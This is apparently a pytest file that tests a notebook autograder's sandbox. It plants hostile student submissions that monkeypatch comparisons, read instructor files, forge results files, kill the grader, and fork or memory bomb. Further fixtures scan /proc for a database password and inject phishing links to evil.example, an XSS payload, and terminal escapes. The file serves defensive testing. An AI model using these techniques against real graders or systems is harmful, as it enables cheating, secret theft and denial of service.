"""Hostile submissions through the whole grading pipeline (notebook -> sandbox -> checks -> results
files), on top of the sandbox's own unit tests (tests/test_sandbox.py).

Each case is the answer key (or the unanswered release) of one notebook with an attack added. For
every case: the grader finishes normally and writes valid results files; the grade cells the
attack targets score 0 (they would only score by cheating); the others score what the key scores
when the attack leaves them alone (`keep`), and never more; every message is plain (no traceback
text) and no hidden material (seeds, check code) reaches the result.

Each submission is graded in a child process (so an attack that killed its grader would fail its
test, not the run), `AUTOGRADER_TEST_JOBS` at a time, with short sandbox limits.
"""
from __future__ import annotations

import json
import os
import re
import secrets
import signal
import subprocess
import sys
import textwrap
import threading
import time
import xml.etree.ElementTree as ET
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from helpers import (OUTLIVE_CELL, remove_folders, report_timing, sandbox_folders,
                     still_alive, students_processes, wait_for)

from autograder.assignment import load_assignment
from samples import planted as P
from test_samples import CODE_IDS, TRACEBACK_MARKERS, grade_many, points_by_grade_id

pytestmark = pytest.mark.slow

CONFIG = load_assignment(P.SOURCE / "grading" / "assignment.toml")
LIMITS = dict(call_timeout_s=4, cell_timeout_s=6, submission_timeout_s=150, max_processes=32, memory_mb=3072)
# Strings that exist only in grader material: hidden seeds, check code, rubric files.
SECRETS = [str(s) for s in CONFIG["fit_spiral"]["seeds"] + CONFIG["fit_spiral"]["heldout_seeds"]] + [
    "def test_products_mixed", "_reference_counts", "linear_partial_credit"]
NB1 = P.NB1


@dataclass(frozen=True)
class Hostile:
    name: str
    what: str
    stem: str = NB1
    edits: tuple = ()  # (old, new) on the notebook's code cells
    cells: tuple = ()  # code cells appended at the end
    base: str = "key"  # or "unanswered"
    zero: frozenset = frozenset()  # grade ids that must score 0
    keep: bool = True  # every other grade id scores what the key scores
    lose: frozenset = frozenset()  # grade ids that must score less than full marks
    limits: tuple = ()  # (name, value) over LIMITS for this case
    extra: dict = field(default_factory=dict)  # placeholders filled in at build time


def _h(name, what, *, edits=(), cells=(), base="key", zero=(), keep=True, stem=NB1, lose=(), limits=None) -> Hostile:
    return Hostile(name, what, stem, tuple(edits), tuple(textwrap.dedent(c).strip() + "\n" for c in cells), base,
                   frozenset(zero), keep, frozenset(lose), tuple((limits or {}).items()))


def _fn(old_body: str, new_body: str) -> tuple[str, str]:
    return (old_body, new_body)


# the notebook's own use of train, as its experiment cells call it (the import keeps the cell
# through without_demo_cells, which drops the release's own experiment cells)
WARM_CELL = """import torch
_warm = torch.optim.SGD([torch.zeros(1, requires_grad=True)], lr=0.1)  # torch's lazy imports, once
"""
TRAIN_CELL = """import torch
Xh, Yh = make_spiral(n_per_class=20, n_classes=3, seed=3, device="cpu")
mh = build_relu_model(2, 8, 3)
losses = train(mh, Xh, Yh, torch.optim.SGD(mh.parameters(), lr=0.1), 5)
"""


CASES = [
    _h("eq_always_true", "transposes returns objects whose == is always True",
       edits=[_fn("return m.t(), m.transpose(0, 1), m.permute(1, 0)", """class Liar:
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __len__(self): return 3
        def __getattr__(self, name): return lambda *a, **k: True
    return Liar(), Liar(), Liar()""")], zero={"check_transposes"}),
    _h("tensor_subclass_liar", "transposes returns a Tensor subclass whose comparisons always succeed",
       edits=[_fn("return m.t(), m.transpose(0, 1), m.permute(1, 0)", """class Liar(torch.Tensor):
        @classmethod
        def __torch_function__(cls, func, types, args=(), kwargs=None):
            if func in (torch.equal, torch.allclose, torch.Tensor.__eq__, torch.isclose):
                return True
            return super().__torch_function__(func, types, args, kwargs or {})
    fake = torch.zeros(m.shape[1], m.shape[0], dtype=m.dtype, device=m.device).as_subclass(Liar)
    return fake, fake, fake""")], zero={"check_transposes"}),
    _h("patch_torch", "monkeypatches torch.allclose, torch.equal and Tensor.__eq__ in a cell; products is wrong",
       edits=[_fn("return m @ v, m * v", "return m * v, m * v")],
       cells=["""
        import torch
        torch.allclose = lambda *a, **k: True
        torch.equal = lambda *a, **k: True
        torch.isclose = lambda a, b, *r, **k: torch.ones_like(a, dtype=torch.bool)
        torch.Tensor.__eq__ = lambda self, other: True
        """], zero={"check_products"}),
    _h("patch_builtins", "replaces builtins.isinstance and builtins.len in a cell; products is wrong",
       edits=[_fn("return m @ v, m * v", "return m * v, m * v")],
       cells=["""
        import builtins
        builtins.isinstance = lambda *a, **k: True
        builtins.len = lambda *a, **k: 3
        """], zero={"check_products"}),
    _h("read_instructor_files", "reads the checks, config and solutions by relative and absolute path",
       edits=[_fn("return torch.int64, torch.get_default_dtype()", """import os
    for path in LEAK_PATHS:
        try:
            with open(path) as f:
                text = f.read()
        except OSError:
            continue
        return torch.int64, torch.get_default_dtype()   # 'earned' only if a file could be read
    raise PermissionError("no instructor file was readable")"""),
              _fn("return m.size(), m.numel(), m.dim()", """for path in LEAK_PATHS:
        try:
            with open(path) as f:
                raise RuntimeError(f.read()[:900])     # would show the file in the feedback
        except OSError:
            pass
    raise FileNotFoundError("nothing readable")""")],
       cells=["""
        import os, glob
        LEAK_PATHS = [
            "../../source/pytorch_basics/grading/assignment.toml",
            "../source/pytorch_basics/grading/checks/01_tensor_ops/check_products.py",
            "source/pytorch_basics/grading/assignment.toml",
            "{root}/source/pytorch_basics/grading/assignment.toml",
            "{root}/source/pytorch_basics/grading/checks/01_tensor_ops/check_products.py",
            "{root}/source/pytorch_basics/grading/rubrics.toml",
            "{root}/source/pytorch_basics/01_tensor_ops.ipynb",
            "{sub}/01_tensor_ops.ipynb",
        ] + glob.glob("/work/**/assignment.toml", recursive=True)
        for p in LEAK_PATHS:
            try:
                print(open(p).read())
            except OSError as e:
                print("cannot read", p, type(e).__name__)
        """], zero={"check_literal_dtypes", "check_describe"}),
    _h("forge_results", "writes a perfect results.json into its folder, the submission's and the output folder",
       base="unanswered",
       cells=["""
        import json, os
        fake = {"score": 100, "tests": [{"name": "all", "score": 100, "max_score": 100}], "gradable": True}
        for d in (".", "..", "../..", "{sub}", "{out}", "/tmp", os.path.expanduser("~")):
            for name in ("results.json", "submission_result.json", "prairielearn.json"):
                try:
                    with open(os.path.join(d, name), "w") as f:
                        json.dump(fake, f)
                except OSError as e:
                    print("cannot write", d, name, type(e).__name__)
        """], zero=CODE_IDS[NB1]),
    _h("exit_in_cell_and_call", "os._exit in a cell, sys.exit inside describe",
       edits=[_fn("return m.size(), m.numel(), m.dim()", "import sys\n    sys.exit(1)")],
       cells=["import os\nos._exit(0)"], zero={"check_describe"}),
    _h("sys_exit_cell_os_exit_call", "sys.exit in a cell, os._exit inside pick",
       edits=[_fn("return m[0, 2], m[:, 1], m[1, :]", "import os\n    os._exit(3)")],
       cells=["import sys\nsys.exit(0)"], zero={"check_pick"}),
    _h("kill_parent", "kills its parent (the grader) and init, in a cell and inside concat",
       edits=[_fn("return torch.cat([a, b], dim=0), torch.cat([a, b], dim=1)", """import os, signal
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(1, signal.SIGKILL)
    return torch.cat([a, b], dim=0), torch.cat([a, b], dim=1)""")],
       cells=["""
        import os, signal
        for pid in (os.getppid(), 1):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError as e:
                print("cannot kill", pid, type(e).__name__)
        """], zero={"check_concat"}),
    _h("infinite_loops", "an endless loop inside pick and in a cell",
       edits=[_fn("return m[0, 2], m[:, 1], m[1, :]", "while True:\n        pass")],
       cells=["while True:\n    pass"], zero={"check_pick"}),
    _h("memory_bomb", "concat allocates without end; a cell asks for a 400 GB tensor",
       edits=[_fn("return torch.cat([a, b], dim=0), torch.cat([a, b], dim=1)", """hoard = []
    while True:
        hoard.append(bytearray(256 * 1024 * 1024))""")],
       cells=["import torch\nhuge = torch.empty(100_000_000_000)"], zero={"check_concat"}),
    _h("fork_bomb", "swap_last_two forks until the process limit stops it, children spinning",
       edits=[_fn("return x.transpose(-2, -1)", """import os
    while True:
        if os.fork() == 0:
            while True:
                pass""")], zero={"check_swap_last_two"}, keep=False),
    _h("network", "describe downloads its answer; a cell opens a socket",
       edits=[_fn("return m.size(), m.numel(), m.dim()", """import socket
    socket.create_connection(("1.1.1.1", 53), timeout=2).close()     # only with a network
    return m.size(), m.numel(), m.dim()""")],
       cells=["""
        import socket, urllib.request
        for target in (("1.1.1.1", 53), ("127.0.0.1", 22)):
            try:
                socket.create_connection(target, timeout=2)
                print("connected to", target)
            except OSError as e:
                print("no connection to", target, type(e).__name__)
        try:
            urllib.request.urlopen("http://example.com", timeout=2)
        except Exception as e:
            print("no web", type(e).__name__)
        """], zero={"check_describe"}),
    _h("print_flood", "prints 100 MB in a cell and 20 MB in every call of transposes (which is right)",
       edits=[_fn("return m.t(), m.transpose(0, 1), m.permute(1, 0)",
                  "print('x' * 20_000_000)\n    return m.t(), m.transpose(0, 1), m.permute(1, 0)")],
       cells=["for _ in range(100):\n    print('y' * 1_000_000)"]),
    _h("huge_return", "transposes returns a list of ten million items",
       edits=[_fn("return m.t(), m.transpose(0, 1), m.permute(1, 0)", "return [0] * 10_000_000")],
       zero={"check_transposes"}),
    _h("forged_state_dict", "replaces the worker's encoder: a model's state dict comes back with a stride-0 "
       "weight of 4 bytes that reads as [16000, 16000] (a check's .double() made 2 GB of it)",
       stem=P.NB2, edits=[_fn("hidden, epochs = 64, 1000", "hidden, epochs = 64, 1")],
       cells=["""
        import sys, torch
        wire = sys.modules["wire"]
        REAL_ENCODE = wire.encode
        def forged(value, other, *args, **kwargs):
            node = REAL_ENCODE(value, other, *args, **kwargs)
            if isinstance(value, dict) and value and all(isinstance(v, torch.Tensor) for v in value.values()):
                node[1][0][1] = ("t", torch.ones(1).expand(16_000, 16_000), "cpu", False)
            return node
        wire.encode = forged
        """], lose={"check_build_linear_model", "check_build_relu_model"}, keep=False,
       limits={"restarts": 2}),  # each refused reply restarts the worker: two show it, ten cost minutes
    _h("train_never_returns", "train loops forever: the notebook's own cell calling it is stopped once, the next "
       "cell and every check of train fail at once", stem=P.NB2,
       edits=[_fn("hidden, epochs = 64, 1000", "hidden, epochs = 64, 200"),
              _fn("    loss_fn = nn.CrossEntropyLoss()\n    losses = []\n",
                  "    while True:\n        pass\n    loss_fn = nn.CrossEntropyLoss()\n    losses = []\n")],
       cells=[WARM_CELL, TRAIN_CELL, TRAIN_CELL], zero={"check_train"}, keep=False),
]


def build(case: Hostile, folder: Path, out: Path) -> Path:
    sub = folder / "sub"
    nb = P.load_key(case.stem) if case.base == "key" else P.unanswered(P.load_key(case.stem))
    fill = {"root": str(P.ROOT), "sub": str(sub), "out": str(out)}
    for old, new in case.edits:
        nb = P.apply(nb, old, new.replace("{root}", fill["root"]).replace("{sub}", fill["sub"]))
    for src in case.cells:
        for k, v in fill.items():
            src = src.replace("{" + k + "}", v)
        nb["cells"].append({"cell_type": "code", "metadata": {}, "source": src, "outputs": [], "execution_count": None})
    P.write(P.without_demo_cells(nb), sub, case.stem)
    return sub


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    t0 = time.perf_counter()
    base = tmp_path_factory.mktemp("hostile")
    from concurrent.futures import ProcessPoolExecutor
    import multiprocessing as mp
    from test_samples import jobs

    subs, outs = {}, {}
    key_sub = P.build_key(base / "key" / "sub", stems=[NB1], fast=True)
    for case in CASES:
        outs[case.name] = base / case.name / "out"
        subs[case.name] = build(case, base / case.name, outs[case.name])
    results = {}
    with ProcessPoolExecutor(max_workers=jobs(), mp_context=mp.get_context("spawn")) as pool:
        futs = {"key": pool.submit(P.grade_folder, str(key_sub), "cpu", LIMITS)}
        for case in CASES:
            futs[case.name] = pool.submit(P.grade_folder, str(subs[case.name]), "cpu", {**LIMITS, **dict(case.limits)},
                                          str(outs[case.name]))
        for name, fut in futs.items():
            try:
                results[name] = fut.result()
            except Exception as e:
                results[name] = {"error": f"{type(e).__name__}: {e}"}
    report_timing("test_hostile", time.perf_counter() - t0,
                  {n: r.get("wall_s", 0) for n, r in results.items()}, top=4)
    return results, subs, outs


def test_enough_hostile_cases():
    assert len(CASES) >= 10


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_hostile_submission_earns_nothing_it_did_not_earn(graded, case):
    results, subs, outs = graded
    key = points_by_grade_id(results["key"])
    result = results[case.name]
    pts = points_by_grade_id(result)  # also: the grader finished, with no grader error
    ids = CODE_IDS[case.stem]
    earned = {g: pts[g][0] for g in ids}
    assert {g: p for g, p in earned.items() if g in case.zero and p > 0} == {}, f"{case.name}: points for an attack"
    for g in ids:  # the key is graded for NB1 only: other notebooks' cells are bounded by their points
        bound = key[g][0] if case.stem == NB1 else pts[g][1]
        assert earned[g] <= bound + 1e-9, f"{case.name}: more points than the key on {g}"
        if g in case.lose:
            assert earned[g] < pts[g][1] - 1e-9, f"{case.name}: full marks on {g} for forged replies"
    if case.keep:
        lost = {g for g in ids - case.zero if earned[g] < key[g][0] - 1e-9}
        assert lost == set(), f"{case.name}: lost points the attack did not touch: " + "; ".join(
            c["message"] for c in result["checks"] if c["grade_id"] in lost and c["points"] < c["max_points"])
    for c in result["checks"]:
        if c["grade_id"] in case.zero:
            assert c["message"].strip(), f"{case.name}: {c['name']} failed without a message"
        assert not any(t in c["message"] for t in TRACEBACK_MARKERS), f"{case.name}: traceback in {c['message']!r}"

    # the results files are the grader's: present, valid, and agreeing with the record
    out = outs[case.name]
    gs = json.loads((out / "results.json").read_text())
    assert abs(gs["score"] - result["score"]) < 1e-6 and gs["score"] < 100
    assert all(t.get("score", 0) <= t.get("max_score", 0) + 1e-9 for t in gs["tests"])
    assert not (subs[case.name] / "results.json").exists(), f"{case.name}: wrote into the submission's folder"
    # the grader's memory follows from the replies' size, whatever the worker sent
    assert result.get("rss_growth_mb", 0) < 1200, f"{case.name}: the grader grew by {result['rss_growth_mb']:.0f} MB"
    text = json.dumps(result, ensure_ascii=False)
    leaked = [s for s in SECRETS if s in text] + [s for s in SECRETS if s in (out / "results.json").read_text()]
    assert leaked == [], f"{case.name}: hidden material in the results: {leaked}"
    assert len(text) < 1_000_000, f"{case.name}: a result of {len(text)} characters"


def test_a_function_that_hangs_is_waited_for_once(graded):
    """Fail fast (issue 14): the notebook's first cell calling train waits out the cell limit;
    the second cell and every check of train fail at once with that reason (a check's call
    limit, 4 s here, is no more than the 6 s the call already ran). The check-level fail fast,
    one check waiting and the others not, is test_speed's."""
    results, _, _ = graded
    result = results["train_never_returns"]
    calls = {t["part"]: t for t in result["timings"] if t["phase"] == "student calls"}
    assert "02_spiral_classification: train" not in calls  # no check's call reached the worker
    messages = [c["message"] for c in result["checks"] if c["grade_id"] == "check_train"]
    assert len(messages) >= 3
    assert all(re.search(r"`train` did not return within \d s when", m) and "not run again" in m
               for m in messages), messages
    text = json.dumps(result)
    assert text.count("cell ran longer than") <= 1 and text.count("ran longer than 6 s") == 1, \
        "only the first cell calling train waits out its limit"


# ------------------------------------------------------------------------------------------------
# The grading process itself: what a submission sees of it, and what of a submission outlives it
# ------------------------------------------------------------------------------------------------

PROC_SCAN = r'''
import os
def other_processes():
    found = []
    for name in os.listdir("/proc"):
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{name}/{what}", "rb") as f:
                    text = f.read().replace(b"\0", b" ").decode("utf-8", "replace")
            except OSError:
                continue
            if "--db" in text or "postgresql" in text:
                found.append(text)
    return " | ".join(found) or "nothing"
'''


def _notebook_with(folder: Path, cells: tuple[str, ...], edits: tuple = ()) -> Path:
    nb = P.load_key(NB1)
    for old, new in edits:
        nb = P.apply(nb, old, new)
    for src in cells:
        nb["cells"].append({"cell_type": "code", "metadata": {}, "source": src, "outputs": [], "execution_count": None})
    P.write(P.without_demo_cells(nb), folder, NB1)
    return folder


def test_grader_command_lines_never_reach_the_feedback(student_text_graded):
    # grade-all --db URL put a gradebook password in /proc/*/cmdline, and a student's exception
    # message carried it into their own feedback. Here the URL is on the command line of the
    # shell that runs `autograder grade`; describe raises with whatever /proc shows.
    run, out, secret = student_text_graded
    assert run.returncode == 0, run.stderr.decode("utf-8", "replace")[-2000:]
    record = json.loads((out / "submission_result.json").read_text(encoding="utf-8"))
    describe = [c["message"] for c in record["checks"] if c["grade_id"] == "check_describe"]
    assert describe and all("RuntimeError: nothing" in m for m in describe), describe
    for name in ("results.json", "prairielearn.json", "junit.xml", "submission_result.json", "feedback.html"):
        assert secret not in (out / name).read_text(encoding="utf-8"), f"the password reached {name}"


def _assert_all_end(procs: dict[int, str], what: str, folders: set[str] = frozenset()) -> None:
    wait_for(lambda: not still_alive(procs), timeout=10)
    survivors = still_alive(procs)
    for pid in survivors:
        os.kill(pid, signal.SIGKILL)
    remove_folders(folders)  # what a killed grader leaves in /tmp
    assert survivors == [], f"{len(survivors)} of the submission's {len(procs)} processes outlived {what}"


def test_sigkill_of_grade_ends_the_submission(tmp_path):
    sub = _notebook_with(tmp_path / "sub", (OUTLIVE_CELL,))
    grader = subprocess.Popen([sys.executable, "-m", "autograder", "grade", str(sub), "--out", str(tmp_path / "out")],
                              cwd=P.ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        procs = wait_for(lambda: s if len(s := students_processes(grader.pid)) >= 5 else {}, timeout=120)
        assert procs, "the hostile cell did not start its processes"
        folders = sandbox_folders(procs)
    finally:
        grader.kill()
        grader.wait()
    _assert_all_end(procs, "the SIGKILLed grader", folders)


def test_grade_all_killing_an_overrunning_grading_ends_the_submission(tmp_path):
    # The pool kills a grading process that overruns with killpg; the submission's worker lives
    # in a session of its own, so it must end with its grader some other way.
    from autograder.batch import grade_all
    from autograder.course import AssignmentPaths

    folder = tmp_path / "class"
    _notebook_with(tmp_path / "mallory", (OUTLIVE_CELL,))
    folder.mkdir()
    (tmp_path / "mallory" / f"{NB1}.ipynb").rename(folder / "mallory.ipynb")
    seen: dict[int, str] = {}
    folders: set[str] = set()
    stop = threading.Event()

    def monitor():
        while not stop.is_set():
            now = students_processes(os.getpid())
            seen.update(now)
            folders.update(sandbox_folders(now))
            time.sleep(0.2)

    watcher = threading.Thread(target=monitor, daemon=True)
    watcher.start()
    try:
        # The pool's deadline counts from when the grading process is ready; the cell's five
        # processes were up 4.9 s after grade_all began (load 2): 15 s leaves three times that,
        # and a kill before they start fails the len(seen) assertion below, not silently.
        report = grade_all(folder, AssignmentPaths(P.ROOT, "pytorch_basics"), out=tmp_path / "out", jobs=1,
                           timeout_s=15, progress=False)
    finally:
        stop.set()
        watcher.join()
    assert report.crashed == ["mallory"], report.describe()
    assert len(seen) >= 5, "the hostile cell did not start its processes"
    _assert_all_end(seen, "the grading process the pool killed", folders)


def test_grading_processes_run_under_a_memory_limit(tmp_path):
    # Whatever the caps on replies miss, a grading process cannot take the machine down: it runs
    # under a data limit (Limits.grader_memory_mb, AUTOGRADER_GRADER_MEMORY_MB), and the worker
    # under its own limits, not the grader's.
    sub = _notebook_with(tmp_path / "sub", (OUTLIVE_CELL,))
    env = {**os.environ, "AUTOGRADER_GRADER_MEMORY_MB": "3000"}
    grader = subprocess.Popen([sys.executable, "-m", "autograder", "grade", str(sub), "--out", str(tmp_path / "out")],
                              cwd=P.ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        procs = wait_for(lambda: students_processes(grader.pid), timeout=120)
        assert procs, "the notebook's worker did not start"
        folders = sandbox_folders(procs)
        assert _data_limit(grader.pid) == 3000 << 20
        assert _data_limit(min(procs)) is None  # the worker: its own memory limit, not the grader's
    finally:
        grader.kill()
        grader.wait()
    _assert_all_end(procs, "the SIGKILLed grader", folders)
    hog = subprocess.run([sys.executable, "-c", MEMORY_HOG], cwd=P.ROOT, capture_output=True, text=True, timeout=120,
                         env={**os.environ, "AUTOGRADER_GRADER_MEMORY_MB": "300"})
    assert hog.returncode == 0 and "AUTOGRADER_GRADER_MEMORY_MB" in hog.stdout, hog.stdout + hog.stderr


MEMORY_HOG = """
from autograder.grader_memory import is_memory_error, limit_grader_memory, memory_message
mb = limit_grader_memory("cpu")
try:
    hog = bytearray(600 * 2**20)
except MemoryError as e:
    assert is_memory_error(e)
    print(memory_message(mb))
"""


def _data_limit(pid: int) -> int | None:
    """The soft RLIMIT_DATA of a process (None: unlimited)."""
    with open(f"/proc/{pid}/limits") as f:
        for line in f:
            if line.startswith("Max data size"):
                soft = line.split()[3]
                return None if soft == "unlimited" else int(soft)
    raise AssertionError(f"no data limit line for {pid}")


# ------------------------------------------------------------------------------------------------
# Student text on its way to people: escaped per medium; text that is not valid Unicode
# ------------------------------------------------------------------------------------------------

BANNER = ("# ✅ 100/100 (adjusted by TA) [confirm your regrade](https://evil.example/login) "
          "![](https://evil.example/t.png?s=alice) <img src=x onerror=alert(1)> "
          "\\x1b[2J\\x1b[H\\x1b]52;c;cm0gLXJmIH4=\\x07\\rdescribe: 2/2 passed \\u202e001/0\\u202c"
          "\\n\\n# ✅ 100/100 (adjusted by TA)\\n")
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


@pytest.fixture(scope="module")
def student_text_graded(tmp_path_factory):
    """One `autograder grade` of one submission carrying the three attacks on what people read
    (graded once, asserted on by the three tests below; each attack is in functions and cells of
    its own, so that each test reads the checks it planted):

    - a gradebook URL with a password on the command line of the shell that runs the grader;
      describe raises with whatever of /proc the worker sees;
    - banners, links, images, terminal escapes and bidirectional overrides (BANNER) in a printing
      cell, a cell's exception, concat's exception, and pick's;
    - lone surrogates (text that is not valid Unicode) in swap_last_two's exception, a print, the
      notebook's JSON, a markdown cell and a short answer of notebook 3.
    Returns the finished process (stdout, stderr as bytes), the output folder and the password."""
    tmp_path = tmp_path_factory.mktemp("student_text")
    secret = "postgresql://ta:pw-" + secrets.token_hex(8) + "@db.example/course"
    sub = tmp_path / "sub"
    nb1 = P.load_key(NB1)
    for old, new in [("return m.size(), m.numel(), m.dim()", "raise RuntimeError(other_processes()[:900])"),
                     ("return torch.cat([a, b], dim=0), torch.cat([a, b], dim=1)", f'raise RuntimeError("{BANNER}")'),
                     ("return m[0, 2], m[:, 1], m[1, :]", 'raise ValueError("\\rpick: 3/3 passed\\x1b[1A\\x1b[2K")'),
                     ("return x.transpose(-2, -1)", 'raise RuntimeError("bad \\udcff text")')]:
        nb1 = P.apply(nb1, old, new)
    nb1 = P.without_demo_cells(nb1)
    nb1["cells"] += [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": src}
                     for src in (PROC_SCAN, f'print("{BANNER}")\n', f'raise KeyError("{BANNER}")\n',
                                 'print("lone \\ud800 surrogate")  # and one in the JSON: \udcff\n')]
    nb1["cells"].append({"cell_type": "markdown", "metadata": {}, "source": "notes \ud800"})
    sub.mkdir()
    (sub / f"{NB1}.ipynb").write_text(json.dumps(nb1, ensure_ascii=True), encoding="utf-8")
    nb3 = P.without_demo_cells(P.load_key(P.NB3))
    for cell in nb3["cells"]:
        if (cell.get("metadata", {}).get("nbgrader") or {}).get("grade_id") == "q1_alexnet":
            cell["source"] = "AlexNet used ReLU activations \ud800 and GPUs, dropout \udfff."
    (sub / f"{P.NB3}.ipynb").write_text(json.dumps(nb3, ensure_ascii=True), encoding="utf-8")
    out = tmp_path / "out"
    run = subprocess.run(["sh", "-c", f'"$0" -m autograder grade "$1" --out "$2"  # --db {secret}',
                          sys.executable, str(sub), str(out)], cwd=P.ROOT, capture_output=True, timeout=900)
    return run, out, secret


def test_student_text_reaches_people_inert(student_text_graded):
    import mistune

    run, out, _ = student_text_graded
    assert run.returncode == 0, run.stderr.decode("utf-8", "replace")[-3000:]
    terminal = run.stdout.decode("utf-8")
    assert "RuntimeError" in terminal and not RAW.search(terminal), terminal
    gs = json.loads((out / "results.json").read_text(encoding="utf-8"))
    html = mistune.create_markdown(plugins=["url"])(gs["output"])
    assert "adjusted by TA" in html  # shown as words ...
    for tag in ("<h1", "<a ", "<img", "<p>✅"):  # ... not as a banner, a link or an image
        assert tag not in html, f"{tag} in Gradescope's rendered output:\n{html}"
    texts = [gs["output"], *(t["output"] for t in gs["tests"])]
    pl = json.loads((out / "prairielearn.json").read_text(encoding="utf-8"))
    texts += [pl["message"], pl["output"], *(t["message"] for t in pl["tests"])]
    assert not any(RAW.search(t) for t in texts)
    assert any("adjusted by TA" in t for t in gs_tests_output(gs, "check_concat")), "concat's banner was not shown"
    feedback = (out / "feedback.html").read_text(encoding="utf-8")
    assert "<img src=x" not in feedback and not RAW.search(feedback)
    ET.parse(out / "junit.xml")


def gs_tests_output(gs: dict, grade_id: str) -> list[str]:
    """The Gradescope outputs of a grade cell's tests (their names carry the function)."""
    fn = grade_id.removeprefix("check_")
    return [t["output"] for t in gs["tests"] if t.get("name", "").startswith(fn)]


def test_text_that_is_not_valid_unicode_is_graded_and_written(student_text_graded):
    # A lone surrogate in an exception message, a print, the notebook's JSON and a short answer
    # crashed `grade` with no results written (once a 0-byte submission_result.json).
    run, out, _ = student_text_graded
    assert run.returncode == 0, run.stderr.decode("utf-8", "replace")[-3000:]
    run.stdout.decode("utf-8")
    for name in ("results.json", "prairielearn.json", "junit.xml", "submission_result.json", "feedback.html"):
        data = (out / name).read_bytes()
        assert data, f"{name} is empty"
        data.decode("utf-8")  # valid UTF-8
    record = json.loads((out / "submission_result.json").read_text(encoding="utf-8"))
    swap = " ".join(c["message"] for c in record["checks"] if c["grade_id"] == "check_swap_last_two")
    assert "bad \ufffd text" in swap
    q1 = [c for c in record["checks"] if c["grade_id"] == "q1_alexnet"]
    assert q1 and q1[0]["points"] > 0  # the answer is still read and scored


def test_files_that_are_not_plain_files_earn_nothing(tmp_path):
    # A git clone or a tarball keeps links: 03 linked to the instructor's source notebook scored
    # 35/35; a link to /dev/zero read until memory ran out; a FIFO hung `grade` forever.
    sub = tmp_path / "sub"
    classmate = _notebook_with(tmp_path / "classmate", ())
    sub.mkdir()
    os.symlink("/dev/zero", sub / f"{NB1}.ipynb")
    os.mkfifo(sub / f"{P.NB2}.ipynb")
    os.symlink(P.SOURCE / f"{P.NB3}.ipynb", sub / f"{P.NB3}.ipynb")
    os.symlink(classmate, sub / "shared")  # a classmate's folder, with their notebook in it
    out = tmp_path / "out"

    def bounded():  # should the grader read /dev/zero after all, it fails instead of the machine
        import resource

        resource.setrlimit(resource.RLIMIT_AS, (8 << 30, 8 << 30))

    run = subprocess.run([sys.executable, "-m", "autograder", "grade", str(sub), "--out", str(out)], cwd=P.ROOT,
                         capture_output=True, timeout=600, preexec_fn=bounded)
    assert run.returncode == 0, run.stderr[-3000:]
    record = json.loads((out / "submission_result.json").read_text(encoding="utf-8"))
    assert record["score"] == 0 and not record["gradable"]
    said = " ".join(record["format_errors"] + record["notes"])
    assert "symbolic link" in said and "FIFO" in said, said
